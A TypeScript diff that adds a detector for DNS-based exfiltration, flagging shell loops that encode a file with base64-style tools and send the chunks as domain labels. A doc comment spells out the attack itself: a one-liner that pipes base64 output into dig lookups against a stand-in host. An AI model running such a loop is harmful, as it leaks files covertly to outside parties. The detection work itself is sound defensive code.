@@ -1,5 +1,6 @@
 import { isExfiltrationHost } from '../network/exfiltration-hosts.ts'
 import type { Command } from './command.ts'
+import { UNKNOWN, type Word } from './model.ts'
 import { isForeignSource } from './package-sources.ts'
 
 const nameTools: ReadonlySet<string> = new Set([
@@ -21,6 +22,29 @@ export function leaksByName({ name, words }: Command): boolean {
     ({ text, substitutions }) =>
       (substitutions.length > 0 || /\uE000.{0,80}\uE000/.test(text)) && endsInDomain(text),
   )
+}
+
+const encoders: ReadonlySet<string> = new Set(['base64', 'base32', 'xxd', 'od', 'hexdump', 'basenc'])
+
+/** `for c in $(base64 -w30 file); do dig $c.x.example; done`: a file, piece by piece, as labels of names. */
+export function leaksByLoop(commands: readonly Command[]): boolean {
+  let encodes = false
+  for (const { name, words } of commands) {
+    encodes ||=
+      encoders.has(name) ||
+      (name === 'for' &&
+        words.some(({ substitutions }) =>
+          substitutions.some((pipeline) =>
+            pipeline.commands.some(({ argv }) => encoders.has(argv[0]?.text ?? '')),
+          ),
+        ))
+    if (encodes && nameTools.has(name) && words.some(isUnseenLabel)) return true
+  }
+  return false
+}
+
+function isUnseenLabel({ text }: Word): boolean {
+  return text.startsWith(UNKNOWN) && endsInDomain(text)
 }
 
 /** After what is only known at run time comes a domain of two labels or more. */
